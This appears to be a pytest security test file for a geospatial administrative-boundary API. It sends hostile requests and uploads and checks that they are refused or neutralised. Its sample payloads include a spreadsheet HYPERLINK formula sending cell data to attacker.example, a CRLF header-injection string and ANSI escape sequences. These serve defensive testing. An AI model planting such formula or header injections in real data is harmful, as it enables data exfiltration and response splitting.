"""Hostile requests and files (issue 12): each case is a clear 4xx or a safe answer, the
keep-alive connection survives, and no stored data changes.

Runs against the real app under uvicorn (headers, keep-alive and access logs are the
server's, not the test client's) on the real PostGIS; cases that store something (an
upload with a control character in its name, formula-looking names) use a scratch copy
of the demo database.
"""

from __future__ import annotations

import contextlib
import csv
import http.client
import io
import logging
import socket
import stat
import threading
import time
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
import uvicorn
from sqlalchemy import Engine, text

from api.app import create_app
from api.instance import PROJECT_ROOT
from api.settings import Settings
from tests.import_fixtures import demo_communes, table_versions, write_layer

TOKEN = "hostile-admin-token-12"
BIG = "99999999999999999999"  # > 2^63
BIGINT_MAX = str(2**63 - 1)


@contextlib.contextmanager
def serve(database_url: str, **settings) -> Iterator[tuple[str, object]]:
    """The app on a free loopback port under uvicorn, with access logs on."""
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    app = create_app(Settings(database_url=database_url, **settings))
    config = uvicorn.Config(
        app, host="127.0.0.1", port=port, log_config=None, access_log=True, lifespan="on"
    )
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 30
    while not server.started:
        if time.monotonic() > deadline or not thread.is_alive():
            raise RuntimeError("uvicorn did not start")
        time.sleep(0.05)
    try:
        yield f"127.0.0.1:{port}", app
    finally:
        server.should_exit = True
        thread.join(timeout=10)


@pytest.fixture(scope="module")
def live(engine: Engine, db_url: str) -> Iterator[str]:
    """The demo database served for the whole module; its data must not change."""
    before = table_versions(engine)
    with serve(db_url) as (host, _):
        yield host
    assert table_versions(engine) == before, "a hostile request changed stored data"


def get(conn: http.client.HTTPConnection, path: str, headers: dict | None = None):
    conn.request("GET", path, headers=headers or {})
    response = conn.getresponse()
    return response, response.read()


def error_param(body: bytes) -> str:
    import orjson

    return orjson.loads(body)["errors"][0]["param"]


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/communes?offset={n}",
        "/ogc/collections/communes/items?offset={n}",
        "/api/v1/units/40/tasks?offset={n}",
        "/api/v1/units/40/history?offset={n}",
        "/api/v1/communes?limit=10&offset={n}",
    ],
)
def test_integers_beyond_bigint_name_the_parameter(live: str, path: str) -> None:
    conn = http.client.HTTPConnection(live, timeout=30)
    for n in (BIG, "-" + BIG, "1" + BIGINT_MAX):
        response, body = get(conn, path.format(n=n))
        assert response.status in (400, 422), (path, n, body[:200])
        assert error_param(body) == "offset"
    # the largest bigint is legal: an empty page, not a database error
    response, body = get(conn, path.format(n=BIGINT_MAX))
    assert response.status == 200, body[:300]
    # digits from another script are not digits to us
    response, body = get(conn, path.format(n=quote("１０")))
    assert response.status == 422 and error_param(body) == "offset"


CONTROL_CASES = [
    ("/api/v1/units/40/tasks?program=NQ57%00", "program"),
    ("/api/v1/units/40/history?task=abc%00def", "task"),
    ("/ogc/collections/communes/items?name=Ngh%00", "name"),
    ("/ogc/collections/communes/items?kind=X%C3%A3%0D%0AX", "kind"),
    ("/api/v1/search?q=%1B%5B31m", "q"),
    ("/api/v1/communes?status=overdue%7F", "status"),
    ("/api/v1/communes?fields=code%00", "fields"),
    ("/api/v1/communes/%00", "path"),
    ("/api/v1/provinces?pro%00vince=40", "pro\\x00vince"),
]


def test_control_characters_are_400_and_the_connection_stays_usable(live: str) -> None:
    conn = http.client.HTTPConnection(live, timeout=30)
    response, _ = get(conn, "/healthz")
    assert response.status == 200
    sock = conn.sock
    for path, param in CONTROL_CASES:
        response, body = get(conn, path)
        assert response.status == 400, (path, body[:200])
        assert error_param(body) == param, path
        assert response.getheader("connection", "").lower() != "close"
        response, _ = get(conn, "/api/v1/provinces?fields=code&limit=1")
        assert response.status == 200
        assert conn.sock is sock, f"the server closed the keep-alive connection after {path}"


def test_look_alike_digits_in_codes_are_refused_with_the_ascii_spelling(live: str) -> None:
    conn = http.client.HTTPConnection(live, timeout=30)
    for path, param, ascii_form in (
        ("/api/v1/communes/" + quote("３１８２５"), "code", "31825"),
        ("/api/v1/provinces/" + quote("٤٠"), "code", "40"),
        ("/api/v1/units/" + quote("４０") + "/tasks", "code", "40"),
        ("/api/v1/communes?province=" + quote("４０"), "province", "40"),
        ("/ogc/collections/communes/items?province_code=" + quote("４０"), "province_code", "40"),
    ):
        response, body = get(conn, path)
        assert response.status == 400, (path, body[:200])
        assert error_param(body) == param
        assert f"'{ascii_form}'" in body.decode()
    # Vietnamese text stays welcome where text is expected
    response, body = get(conn, "/api/v1/search?q=" + quote("Đắk Lắk"))
    assert response.status == 200 and "Đắk Lắk".encode() in body


def test_tokens_in_the_query_string_never_reach_the_access_log(live: str) -> None:
    records: list[str] = []

    class Keep(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            records.append(record.getMessage())

    handler = Keep()
    access = logging.getLogger("uvicorn.access")
    old_level = access.level
    access.addHandler(handler)
    access.setLevel(logging.INFO)
    try:
        conn = http.client.HTTPConnection(live, timeout=30)
        response, _ = get(conn, "/api/v1/summary?token=s3cr3t-t0ken&x=1")
        assert response.status == 400  # unknown parameters are refused, yet it was logged
        response, _ = get(conn, "/healthz?access_token=s3cr3t-t0ken")
        time.sleep(0.2)
    finally:
        access.removeHandler(handler)
        access.setLevel(old_level)
    logged = "\n".join(records)
    assert "/api/v1/summary?token=***&x=1" in logged
    assert "s3cr3t" not in logged


def test_a_request_id_with_control_characters_is_cleaned(live: str) -> None:
    conn = http.client.HTTPConnection(live, timeout=30)
    conn.putrequest("GET", "/healthz")
    conn.putheader("X-Request-ID", 'abc <script>"x"def;')
    conn.endheaders()
    response = conn.getresponse()
    response.read()
    assert response.status == 200
    assert response.getheader("x-request-id") == "abcscriptxdef"


# --- stored text: exports and upload names ---------------------------------------------------
FORMULAS = {
    "name": '=HYPERLINK("http://attacker.example/?d="&A1,"Bấm vào đây")',
    "kind": "@SUM(1+1)",
}


def _download_csv(host: str, path: str) -> tuple[http.client.HTTPResponse, list[dict]]:
    conn = http.client.HTTPConnection(host, timeout=120)
    response, body = get(conn, path)
    text_ = body.decode("utf-8-sig")
    return response, list(csv.DictReader(io.StringIO(text_)))


def test_csv_cells_cannot_run_as_formulas_and_numbers_stay_numbers(
    scratch: Engine, scratch_url: str
) -> None:
    with scratch.begin() as conn:
        code = conn.execute(
            text("select min(code) from admin_unit where parent_code = '40'")
        ).scalar()
        conn.execute(
            text(
                "update admin_unit set name = :name, kind = :kind,"
                " area_km2 = -12.5, source = :src where code = :code"
            ),
            {**FORMULAS, "code": code, "src": "xa\x1b[31m\x7f\r\nX-Evil: 1.geojson"},
        )
        conn.execute(text("update data_state set version = version + 1"))
    with serve(scratch_url) as (host, _):
        for query in ("province=40", "province=40&wkt=true"):
            response, rows = _download_csv(host, f"/api/v1/download/communes.csv?{query}")
            assert response.status == 200
            row = next(r for r in rows if r["code"] == code)
            for field, value in FORMULAS.items():
                assert row[field] == "'" + value, field
            assert row["full_name"] == "'" + FORMULAS["kind"] + " " + FORMULAS["name"]
            assert row["area_km2"] == "-12.5"  # a negative number is a number, not a formula
            assert all(not r["tasks_total"].startswith("'") for r in rows)
            # a legacy source with control characters no longer breaks the header
            source = response.getheader("x-source")
            assert source and all(" " <= c <= "~" for c in source)
            assert response.getheader("x-evil") is None


def _multipart(field: str, filename: str, content: bytes) -> tuple[bytes, str]:
    """A multipart body with the file name as raw UTF-8, as a hostile client sends it."""
    boundary = "hostile-boundary-12"
    head = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="{field}"; '
        f'filename="{filename}"\r\nContent-Type: application/geo+json\r\n\r\n'
    ).encode()
    return head + content + f"\r\n--{boundary}--\r\n".encode(), boundary


def _post(host: str, path: str, filename: str, content: bytes):
    body, boundary = _multipart("file", filename, content)
    conn = http.client.HTTPConnection(host, timeout=300)
    conn.request(
        "POST",
        path,
        body=body,
        headers={
            "Authorization": f"Bearer {TOKEN}",
            "Content-Type": f"multipart/form-data; boundary={boundary}",
        },
    )
    response = conn.getresponse()
    return response, response.read()


def test_an_upload_name_with_control_characters_is_stored_clean(
    scratch: Engine, scratch_url: str, tmp_path: Path
) -> None:
    """Reproduces issue 12: ESC/DEL in an upload's name reached `source`, then X-Source,
    and every communes download returned an empty reply until the next import."""
    gdf = demo_communes("40")[["code", "name", "geometry"]].head(3)
    path = write_layer(gdf, tmp_path / "xa.geojson", driver="GeoJSON")
    hostile = "xa\x1b[2J\x07\x7f\u202egnp.geojson"
    with serve(scratch_url, admin_token=TOKEN, import_max_bytes=5_000_000) as (host, _):
        response, body = _post(
            host, "/api/v1/imports/boundaries?level=commune", hostile, path.read_bytes()
        )
        assert response.status == 200, body[:500]
        response, rows = _download_csv(host, "/api/v1/download/communes.csv?province=40")
        assert response.status == 200 and len(rows) == 130
        assert all(" " <= c <= "~" for c in response.getheader("x-source"))
    with scratch.connect() as conn:
        stored = conn.execute(
            text("select distinct source from admin_unit where code = any(:c)"),
            {"c": list(gdf.code)},
        ).scalar_one()
    assert stored.startswith("xa") and stored.endswith("gnp.geojson")
    assert not any(unicodedata.category(c) in ("Cc", "Cf") for c in stored)


def test_error_bodies_name_the_file_but_no_server_path(scratch_url: str, tmp_path: Path) -> None:
    with serve(scratch_url, admin_token=TOKEN) as (host, app):
        response, body = _post(
            host, "/api/v1/imports/boundaries?level=commune", "ban_do.geojson", b"{not json"
        )
        work = str(app.state.work_dir)
    assert response.status == 422
    text_ = body.decode()
    assert "ban_do.geojson" in text_
    for leak in ("/tmp", "/var/tmp", work, "upload-", str(Path(__file__).parents[1])):
        assert leak not in text_, leak


def test_two_instances_never_share_downloads(
    client, engine: Engine, scratch: Engine, scratch_url: str
) -> None:
    """Two databases at the same data version: each instance serves its own file."""
    with engine.connect() as conn:
        version = conn.execute(text("select version from data_state")).scalar()
    with scratch.begin() as conn:
        conn.execute(text("update admin_unit set name = 'Riêng của bản sao' where code = '40'"))
        conn.execute(text("update data_state set version = :v"), {"v": version})
    url = "/api/v1/download/provinces.csv?code=40"
    with serve(scratch_url) as (host, other_app):
        # the same Host as the other instance: the same cache key, so only the instance
        # directory can keep the two files apart
        mine = client.get(url, headers={"host": host})
        response, rows = _download_csv(host, url)
        other_dir = Path(other_app.state.work_dir)
    assert mine.status_code == response.status == 200
    assert "Riêng của bản sao" not in mine.text
    assert rows[0]["name"] == "Riêng của bản sao"
    assert mine.headers["etag"] == response.getheader("etag")  # same version, same query
    main_dir = Path(client.app.state.work_dir)
    assert main_dir != other_dir
    for folder in (main_dir, main_dir / "downloads", other_dir):
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700, folder
        # the instance's own directory under the project's var/, not a shared temp path
        assert folder.resolve().is_relative_to((PROJECT_ROOT / "var").resolve()), folder
